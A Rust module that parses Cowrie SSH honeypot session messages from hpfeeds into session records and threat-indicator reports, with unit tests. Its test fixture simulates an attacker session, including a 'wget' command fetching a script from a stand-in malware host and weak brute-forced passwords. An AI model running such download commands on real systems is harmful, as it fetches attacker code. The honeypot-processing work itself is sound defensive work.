//! Cowrie's `hpfeeds3` output: one JSON message per closed session on `cowrie.sessions`.
//!
//! ```json
//! {"session": "a1b2c3d4e5f6", "startTime": "...", "endTime": "...", "peerIP": "203.0.113.7",
//!  "peerPort": 51234, "hostIP": "10.0.0.5", "hostPort": 2222, "loggedin": ["root", "admin"],
//!  "credentials": [["root", "1234"]], "commands": ["uname -a"], "unknownCommands": [],
//!  "urls": ["http://..."], "version": "SSH-2.0-Go", "ttylog": "<hex of the tty log>",
//!  "hashes": ["<sha256>"], "protocol": "ssh"}
//! ```
//!
//! The message becomes the same [`Session`] the log reader assembles, so it is derived into
//! reports by the same code ([`crate::cowrie::derive`]) with the same idempotency keys: a
//! session that reaches the hub both over hpfeeds and through a log import (under the same
//! sensor name) is counted once.
//!
//! What the message cannot say, and how that is handled:
//! - `credentials` lists failed attempts and `loggedin` the successful one, without times: the
//!   successful login is placed after the failures.
//! - `hashes` is a set that mixes downloads and uploads, and `urls` are not paired with them. A
//!   URL and a hash are paired only when the session has exactly one of each; otherwise URLs
//!   are reported without a hash and hashes as payloads of unknown origin (tagged `malware`,
//!   `payload`; never `redirect` or `failed`, which the message does not tell).
//! - `ttylog` is the tty log's content in hex; its SHA-256 (the `shasum` Cowrie logs for it)
//!   is computed so the session can be matched with one read from `cowrie.json`.

use crate::cowrie::derive::{self, DeriveOptions, Derived};
use crate::cowrie::{Command, CommandStatus, Credential, Download, Session, TtyLog};
use serde_json::{Map, Value};
use sha2::{Digest, Sha256};

/// The channel Cowrie publishes sessions on by default.
pub const CHANNEL: &str = "cowrie.sessions";

/// Why a message is not a Cowrie session.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PayloadError {
    #[error("not a JSON object: {0}")]
    NotJson(String),
    #[error("no `session` id")]
    NoSession,
}

/// A session read from one message, with what was odd about it.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionMessage {
    pub session: Session,
    /// Fields that could not be read, each named (the rest of the message was read).
    pub warnings: Vec<String>,
}

/// A sensor name the store takes (`apiary_store::check_sensor_name`).
fn valid_sensor(s: &str) -> bool {
    !s.trim().is_empty() && s.len() <= 128 && !s.chars().any(char::is_control)
}

/// Read one `cowrie.sessions` message. `sensor` names the sensor unless the message carries
/// a `sensor` field of its own; `origin` says where it came from (e.g. `hpfeeds:IDENT`).
pub fn parse(payload: &[u8], sensor: &str, origin: &str) -> Result<SessionMessage, PayloadError> {
    let mut obj: Map<String, Value> = match serde_json::from_slice(payload) {
        Ok(Value::Object(m)) => m,
        Ok(other) => return Err(PayloadError::NotJson(format!("a JSON {}", kind(&other)))),
        Err(e) => return Err(PayloadError::NotJson(e.to_string())),
    };
    let mut warnings = Vec::new();
    let id = match obj.remove("session") {
        Some(Value::String(s)) if !s.is_empty() => s,
        _ => return Err(PayloadError::NoSession),
    };
    // An optional `sensor` the store would refuse (over 128 bytes, control characters) must not
    // lose the session: the ident names it, as when the field is absent.
    let sensor = match obj.remove("sensor") {
        Some(Value::String(s)) if valid_sensor(&s) => s,
        Some(Value::String(s)) if s.is_empty() => sensor.to_owned(),
        None | Some(Value::Null) => sensor.to_owned(),
        Some(other) => {
            warnings.push(format!(
                "`sensor` {}: not 1 to 128 characters without control characters; the ident {sensor:?} names the sensor",
                crate::feeds::shorten(&other.to_string())
            ));
            sensor.to_owned()
        }
    };
    let mut s = Session::new(&sensor, &id, origin, 0);
    s.closed = true;
    s.src_ip = text(&mut obj, "peerIP", &mut warnings);
    s.src_port = port(&mut obj, "peerPort", &mut warnings);
    s.dst_ip = text(&mut obj, "hostIP", &mut warnings);
    s.dst_port = port(&mut obj, "hostPort", &mut warnings);
    s.protocol = text(&mut obj, "protocol", &mut warnings).map(|p| p.to_ascii_lowercase());
    s.client_version = text(&mut obj, "version", &mut warnings);
    for (field, slot) in [("startTime", &mut s.start), ("endTime", &mut s.end)] {
        if let Some(t) = text(&mut obj, field, &mut warnings) {
            match apiary_core::parse_time(&t) {
                Ok(t) => *slot = Some(t),
                Err(e) => warnings.push(format!("`{field}` {t:?}: {}", e.message)),
            }
        }
    }
    for pair in list(&mut obj, "credentials", &mut warnings) {
        match credential(&pair, false) {
            Some(c) => s.credentials.push(c),
            None => warnings.push(format!("`credentials` item {pair} is not [username, password]")),
        }
    }
    match obj.remove("loggedin") {
        None | Some(Value::Null) => {}
        Some(pair) => match credential(&pair, true) {
            Some(c) => {
                s.logged_in = true;
                s.credentials.push(c);
            }
            None => warnings.push(format!("`loggedin` {pair} is not [username, password]")),
        },
    }
    for (field, status) in [("commands", CommandStatus::Input), ("unknownCommands", CommandStatus::Unknown)] {
        for c in list(&mut obj, field, &mut warnings) {
            match c {
                Value::String(input) => s.commands.push(Command { input, status, time: None }),
                other => warnings.push(format!("`{field}` item {other} is not a string")),
            }
        }
    }
    let strings = |field: &str, obj: &mut Map<String, Value>, warnings: &mut Vec<String>| -> Vec<String> {
        let mut out = Vec::new();
        for v in list(obj, field, warnings) {
            match v {
                Value::String(u) if !u.is_empty() => out.push(u),
                Value::String(_) => {}
                other => warnings.push(format!("`{field}` item {other} is not a string")),
            }
        }
        out
    };
    let urls = strings("urls", &mut obj, &mut warnings);
    let hashes: Vec<String> = strings("hashes", &mut obj, &mut warnings).into_iter().map(|h| h.to_ascii_lowercase()).collect();
    let download = |url: Option<String>, shasum: Option<String>| Download {
        url,
        shasum,
        outfile: None,
        destfile: None,
        duplicate: None,
        error: None,
        time: None,
    };
    if urls.len() == 1 && hashes.len() == 1 {
        s.downloads.push(download(urls.into_iter().next(), hashes.into_iter().next()));
    } else {
        s.downloads.extend(urls.into_iter().map(|u| download(Some(u), None)));
        s.downloads.extend(hashes.into_iter().map(|h| download(None, Some(h))));
    }
    match obj.remove("ttylog") {
        None | Some(Value::Null) => {}
        Some(Value::String(h)) if h.is_empty() => {}
        Some(Value::String(h)) => match hex::decode(h.trim()) {
            Ok(bytes) => {
                s.ttylog = Some(TtyLog {
                    path: None,
                    size: Some(bytes.len() as u64),
                    shasum: Some(hex::encode(Sha256::digest(&bytes))),
                })
            }
            Err(e) => warnings.push(format!("`ttylog` is not hex ({e}); not kept")),
        },
        Some(other) => warnings.push(format!("`ttylog` is a {}, not a hex string", kind(&other))),
    }
    s.duration = s.duration_secs();
    s.events = 1;
    for (k, v) in obj {
        s.other_fields.insert(k, v);
    }
    Ok(SessionMessage { session: s, warnings })
}

/// The reports of a session read from a message: [`derive::reports`], without the claims the
/// message cannot support (a download "failed" because no hash was paired with it, a payload
/// from a shell "redirect" because it had no URL).
pub fn reports(s: &Session, opts: &DeriveOptions) -> Derived {
    let mut derived = derive::reports(s, opts);
    for r in &mut derived.reports {
        if let Value::Object(extra) = &mut r.extra {
            extra.remove("failed");
            extra.remove("errors");
            extra.insert("source".into(), Value::String("cowrie-hpfeeds".into()));
        }
        r.tags.retain(|t| t != "redirect");
        if r.tags.iter().any(|t| t == "payload") && !r.tags.iter().any(|t| t == "malware") {
            r.tags.insert(0, "malware".into());
        }
    }
    derived
}

fn kind(v: &Value) -> &'static str {
    match v {
        Value::Null => "null",
        Value::Bool(_) => "boolean",
        Value::Number(_) => "number",
        Value::String(_) => "string",
        Value::Array(_) => "list",
        Value::Object(_) => "object",
    }
}

/// A string field (a number is taken as its text); empty means absent.
fn text(obj: &mut Map<String, Value>, field: &str, warnings: &mut Vec<String>) -> Option<String> {
    match obj.remove(field)? {
        Value::Null => None,
        Value::String(s) if s.is_empty() => None,
        Value::String(s) => Some(s),
        Value::Number(n) => Some(n.to_string()),
        other => {
            warnings.push(format!("`{field}` is a {}, not a string", kind(&other)));
            None
        }
    }
}

fn port(obj: &mut Map<String, Value>, field: &str, warnings: &mut Vec<String>) -> Option<u16> {
    let raw = text(obj, field, warnings)?;
    match raw.trim().parse::<u16>() {
        Ok(p) => Some(p),
        Err(_) => {
            warnings.push(format!("`{field}` {raw:?} is not a port"));
            None
        }
    }
}

fn list(obj: &mut Map<String, Value>, field: &str, warnings: &mut Vec<String>) -> Vec<Value> {
    match obj.remove(field) {
        None | Some(Value::Null) => Vec::new(),
        Some(Value::Array(items)) => items,
        Some(other) => {
            warnings.push(format!("`{field}` is a {}, not a list", kind(&other)));
            Vec::new()
        }
    }
}

fn credential(pair: &Value, success: bool) -> Option<Credential> {
    let Value::Array(items) = pair else { return None };
    let field = |i: usize| match items.get(i) {
        Some(Value::String(s)) => Some(Some(s.clone())),
        Some(Value::Null) | None => Some(None),
        Some(Value::Number(n)) => Some(Some(n.to_string())),
        Some(_) => None,
    };
    if items.is_empty() || items.len() > 2 {
        return None;
    }
    Some(Credential { username: field(0)?, password: field(1)?, fingerprint: None, success, time: None })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::cowrie::Depth;
    use serde_json::json;

    /// A message as Cowrie's `output_hpfeeds3` writes it (json.dumps of its `meta` dict).
    fn message() -> Value {
        json!({
            "session": "3f2a9c1b7d4e",
            "startTime": "2026-12-01T10:00:00.123456Z",
            "endTime": "2026-12-01T10:00:42.500000Z",
            "peerIP": "203.0.113.7",
            "peerPort": 51234,
            "hostIP": "10.0.0.5",
            "hostPort": 2222,
            "loggedin": ["root", "admin"],
            "credentials": [["root", "1234"], ["admin", "admin"]],
            "commands": ["uname -a", "wget http://malware.example.net/x.sh", "foo"],
            "unknownCommands": ["foo"],
            "urls": ["http://malware.example.net/x.sh"],
            "version": "SSH-2.0-Go",
            "ttylog": "0102ff",
            "hashes": ["9F86D081884C7D659A2FEAA0C55AD015A3BF4F1B2B0B822CD15D6C15B0F00A08"],
            "protocol": "ssh"
        })
    }

    #[test]
    fn a_full_message_becomes_a_session() {
        let m = parse(message().to_string().as_bytes(), "hp-ident", "hpfeeds:hp-ident").unwrap();
        assert!(m.warnings.is_empty(), "{:?}", m.warnings);
        let s = &m.session;
        assert_eq!((s.sensor.as_str(), s.session.as_str()), ("hp-ident", "3f2a9c1b7d4e"));
        assert_eq!((s.src_ip.as_deref(), s.src_port), (Some("203.0.113.7"), Some(51234)));
        assert_eq!((s.dst_ip.as_deref(), s.dst_port), (Some("10.0.0.5"), Some(2222)));
        assert_eq!(s.protocol.as_deref(), Some("ssh"));
        assert_eq!(s.client_version.as_deref(), Some("SSH-2.0-Go"));
        assert!((s.duration.unwrap() - 42.376544).abs() < 1e-6);
        let creds: Vec<_> = s.credentials.iter().map(|c| (c.username.as_deref(), c.password.as_deref(), c.success)).collect();
        assert_eq!(
            creds,
            [(Some("root"), Some("1234"), false), (Some("admin"), Some("admin"), false), (Some("root"), Some("admin"), true)]
        );
        assert!(s.logged_in);
        assert_eq!(s.commands.len(), 4);
        assert_eq!(s.commands[3].status, CommandStatus::Unknown);
        assert_eq!(s.downloads.len(), 1, "one URL and one hash are paired");
        assert_eq!(
            s.downloads[0].shasum.as_deref(),
            Some("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08")
        );
        let tty = s.ttylog.as_ref().unwrap();
        assert_eq!(tty.size, Some(3));
        assert_eq!(tty.shasum.as_deref(), Some(hex::encode(Sha256::digest([1u8, 2, 255])).as_str()));
        assert_eq!(s.depth(), Depth::Payload);
        assert!(s.closed);
    }

    #[test]
    fn reports_are_the_log_readers_with_hpfeeds_caveats() {
        let m = parse(message().to_string().as_bytes(), "hp-ident", "hpfeeds:hp-ident").unwrap();
        let d = reports(&m.session, &DeriveOptions::default());
        assert!(d.rejected.is_empty(), "{:?}", d.rejected);
        let got: Vec<(String, Vec<String>)> =
            d.reports.iter().map(|r| (r.indicator.value.clone(), r.tags.clone())).collect();
        let want = |v: &str, tags: &[&str]| (v.to_owned(), tags.iter().map(|t| t.to_string()).collect::<Vec<_>>());
        assert_eq!(
            got,
            vec![
                want("203.0.113.7", &["bruteforce", "login", "commands", "download"]),
                want("http://malware.example.net/x.sh", &["malware", "download"]),
                want("malware.example.net", &["malware", "download"]),
                want("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", &["malware", "payload"]),
            ]
        );
        let attacker = &d.reports[0];
        assert_eq!(attacker.port, Some(2222));
        assert_eq!(attacker.sensor.as_deref(), Some("hp-ident"));
        assert_eq!(attacker.extra["source"], "cowrie-hpfeeds");
        assert_eq!(attacker.extra["loggedin"], json!(["root", "admin"]));
        // The same session read from a log gives the same key: counted once.
        assert_eq!(
            attacker.idempotency_key,
            crate::idempotency_key(&["cowrie", "hp-ident", "3f2a9c1b7d4e", "attacker", "203.0.113.7"])
        );
    }

    #[test]
    fn unpaired_urls_and_hashes_claim_nothing_more() {
        let mut v = message();
        v["urls"] = json!(["http://a.example.net/1", "http://b.example.net/2"]);
        v["hashes"] = json!([]);
        v["sensor"] = json!("x".repeat(129));
        let m = parse(v.to_string().as_bytes(), "hp-ident", "hpfeeds:hp-ident").unwrap();
        assert_eq!(m.session.sensor, "hp-ident", "an invalid sensor falls back to the ident");
        assert!(m.warnings.iter().any(|w| w.contains("`sensor`")), "{:?}", m.warnings);
        v["sensor"] = json!("pot-7");
        let m = parse(v.to_string().as_bytes(), "hp-ident", "test").unwrap();
        assert_eq!(m.session.sensor, "pot-7", "the message's own sensor wins");
        let d = reports(&m.session, &DeriveOptions::default());
        let url = d.reports.iter().find(|r| r.indicator.value == "http://a.example.net/1").unwrap();
        assert!(url.extra.get("failed").is_none());

        let mut v = message();
        v["urls"] = json!([]);
        let m = parse(v.to_string().as_bytes(), "hp-ident", "test").unwrap();
        let d = reports(&m.session, &DeriveOptions::default());
        let hash = d.reports.iter().find(|r| r.indicator.itype == apiary_core::IType::Sha256).unwrap();
        assert_eq!(hash.tags, ["malware", "payload"]);
    }

    #[test]
    fn a_connect_only_message_and_odd_fields() {
        let v = json!({"session": "abc", "startTime": "2026-12-01T10:00:00+0000", "endTime": "",
                       "peerIP": "198.51.100.9", "peerPort": "4444", "hostPort": "twenty",
                       "loggedin": null, "credentials": "nope", "ttylog": "zz", "extra_field": 1});
        let m = parse(v.to_string().as_bytes(), "s", "test").unwrap();
        assert_eq!(m.session.src_port, Some(4444));
        assert_eq!(m.session.dst_port, None);
        assert_eq!(m.session.depth(), Depth::Connect);
        assert_eq!(m.warnings.len(), 3, "{:?}", m.warnings);
        assert_eq!(m.session.other_fields.get("extra_field"), Some(&json!(1)));
        let d = reports(&m.session, &DeriveOptions::default());
        assert_eq!(d.reports.len(), 1);
        assert_eq!(d.reports[0].tags, ["scanner"]);
    }

    #[test]
    fn not_a_session() {
        assert!(matches!(parse(b"not json", "s", "t"), Err(PayloadError::NotJson(_))));
        assert!(matches!(parse(b"[1,2]", "s", "t"), Err(PayloadError::NotJson(_))));
        assert_eq!(parse(br#"{"peerIP": "192.0.2.1"}"#, "s", "t"), Err(PayloadError::NoSession));
        assert_eq!(parse(br#"{"session": ""}"#, "s", "t"), Err(PayloadError::NoSession));
    }
}
